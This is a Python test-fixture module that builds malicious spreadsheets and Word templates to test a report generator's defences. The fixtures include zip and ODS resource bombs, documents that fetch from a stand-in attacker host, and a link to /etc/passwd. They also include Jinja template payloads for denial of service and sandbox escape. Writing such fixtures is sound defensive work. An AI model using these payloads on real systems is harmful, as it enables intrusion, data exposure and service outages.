"""The hostile corpus: workbooks and templates an attacker, or an unlucky user, could send — built from the
shipped files by code (no opaque binaries), so each case says what it is."""
from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import openpyxl
from docx import Document

from conftest import EXAMPLE

ROOT = Path(__file__).resolve().parent.parent
TEMPLATE = ROOT / "templates" / "bao-cao-kiem-diem-bch.docx"


def _copy_replacing(source, out, parts: dict) -> None:
    """Copy the package ``source`` to ``out`` (paths or file objects), replacing or adding parts: part name
    (``__`` for "/", ``_DOT_`` for ".") → bytes, or a function of the old bytes."""
    parts = {k.replace("__", "/").replace("_DOT_", "."): v for k, v in parts.items()}
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            new = parts.pop(item.filename, None)
            dst.writestr(item, new(data) if callable(new) else new if new is not None else data)
        for name, data in parts.items():
            dst.writestr(name, data)


def replace_parts(source: Path, out: Path, **parts) -> Path:
    """``source`` with some parts replaced: part name → bytes, or a function of the old bytes."""
    _copy_replacing(source, out, parts)
    return out


def with_cell(out: Path, sheet: str, cell: str, value=1) -> Path:
    book = openpyxl.load_workbook(EXAMPLE)
    book[sheet][cell] = value
    book.save(out)
    return out


def shared_strings_claim(lo_xlsx: Path, out: Path) -> Path:
    """A workbook saved by LibreOffice (it writes a shared-strings table) claiming four billion strings."""
    def claim(data):
        return re.sub(rb'(uniqueCount|count)="\d+"', rb'\1="4294967295"', data)
    return replace_parts(lo_xlsx, out, xl__sharedStrings_DOT_xml=claim)


def ods_repeated(ods: Path, out: Path, rows=10_000, cols=9_000) -> Path:
    """One cell with a value, repeated ``cols`` × ``rows`` times, under the header of "Xếp loại"."""
    def bomb(data):
        start = data.index('<table:table table:name="Xếp loại"'.encode())
        end = data.index(b"</table:table-row>", start) + len(b"</table:table-row>")
        row = (f'<table:table-row table:number-rows-repeated="{rows}"><table:table-cell '
               f'table:number-columns-repeated="{cols}" office:value-type="float" office:value="1"><text:p>1</text:p>'
               '</table:table-cell></table:table-row>').encode()
        return data[:end] + row + data[end:]
    return replace_parts(ods, out, content_DOT_xml=bomb)


def utf16_sheets(out: Path) -> Path:
    """Every worksheet part saved as UTF-16 (with its byte-order mark), as some tools write them."""
    def utf16(data):
        text = data.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
        return b"\xff\xfe" + text.encode("utf-16-le")
    with zipfile.ZipFile(EXAMPLE) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
    return replace_parts(EXAMPLE, out, **{n.replace("/", "__").replace(".", "_DOT_"): utf16 for n in sheets})


def name_with_bidi_mark(out: Path) -> Path:
    """A right-to-left mark typed after a name in the roll call (it looks the same on screen)."""
    book = openpyxl.load_workbook(EXAMPLE)
    ws = book["Điểm danh"]
    ws.cell(row=2, column=2).value = f"{ws.cell(row=2, column=2).value}\u200f"
    book.save(out)
    return out


def hidden_sheet_with_visible_twin(out: Path) -> Path:
    """The data sheet hidden, a visible copy with a similar name beside it (the one the officer edits)."""
    book = openpyxl.load_workbook(EXAMPLE)
    twin = book.copy_worksheet(book["Xếp loại"])
    twin.title = "Xếp loại (2)"
    book["Xếp loại"].sheet_state = "hidden"
    book.save(out)
    return out


# --- templates ----------------------------------------------------------------------------------

def docx_with(paragraphs=(), title=None) -> bytes:
    doc = Document()
    for text in paragraphs:
        doc.add_paragraph(text)
    if title is not None:
        doc.core_properties.title = title
    buf = io.BytesIO()
    doc.save(buf)
    return buf.getvalue()


def docx_bytes_with_parts(data: bytes, **parts) -> bytes:
    out = io.BytesIO()
    _copy_replacing(io.BytesIO(data), out, parts)
    return out.getvalue()


def _add_rel(xml: bytes, rel: str) -> bytes:
    return xml.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def template_with_external_image() -> bytes:
    return docx_bytes_with_parts(TEMPLATE.read_bytes(), word___rels__document_DOT_xml_DOT_rels=lambda x: _add_rel(
        x, f'<Relationship Id="rId900" Type="{IMAGE}" Target="http://attacker.example/pixel.png" '
           'TargetMode="External"/>'))


def template_with_remote_template() -> bytes:
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="' + ATTACHED + '" '
            'Target="http://attacker.example/normal.dotm" TargetMode="External"/></Relationships>')
    return docx_bytes_with_parts(TEMPLATE.read_bytes(), word___rels__settings_DOT_xml_DOT_rels=rels)


def template_with_file_link() -> bytes:
    return docx_bytes_with_parts(TEMPLATE.read_bytes(), word___rels__document_DOT_xml_DOT_rels=lambda x: _add_rel(
        x, f'<Relationship Id="rId901" Type="{HYPERLINK}" Target="file:///etc/passwd" TargetMode="External"/>'))


def template_with_web_link() -> bytes:
    return docx_bytes_with_parts(TEMPLATE.read_bytes(), word___rels__document_DOT_xml_DOT_rels=lambda x: _add_rel(
        x, f'<Relationship Id="rId902" Type="{HYPERLINK}" Target="https://doanthanhnien.vn" TargetMode="External"/>'))


def template_with_macros() -> bytes:
    def macro_type(types):
        return types.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    return docx_bytes_with_parts(TEMPLATE.read_bytes(), **{"[Content_Types]_DOT_xml": macro_type},
                                 word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0 not really a project")


def template_with_fetching_field() -> bytes:
    field = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
             'INCLUDEPICTURE "http://attacker.example/x.png" \\d </w:instrText></w:r><w:r><w:fldChar '
             'w:fldCharType="end"/></w:r></w:p>')
    return docx_bytes_with_parts(TEMPLATE.read_bytes(), word__document_DOT_xml=lambda x: x.replace(
        b"<w:body>", b"<w:body>" + field.encode(), 1))


BOMBS = {
    "power": "{{ 9**(9**9) }}",
    "repeat": "{{ 'x'*10**9 }}",
    "nested-loops": "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}{% endfor %}",
    "loops-over-text": "{% for a in 'x'*100000 %}{% for b in 'x'*100000 %}y{% endfor %}{% endfor %}",
    "doubling-macro": "{% macro d(n) %}{% if n %}{{ d(n-1) }}{{ d(n-1) }}{% endif %}{% endmacro %}{{ d(40) }}",
    "doubling-text": "{% set s = 'xxxxxxxxxx' %}" + "{% set s = s ~ s %}" * 40 + "{{ s }}",
    "format-width": "{{ '%999999999s' % 1 }}",
}
ESCAPES = {
    "chart-internals": "{{ bieu_do_hop.tpl.replace_zipname('docProps/app.xml', '/etc/passwd') }}",
    "save-anywhere": "{{ bieu_do_hop.tpl.save('/tmp/kiemdiem-pwned.docx') }}",
    "class-walk": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals": "{{ lipsum.__globals__ }}{{ cycler.__init__.__globals__ }}",
    "repr": "{{ bieu_do_hop.__repr__() }}{{ self }}",
}
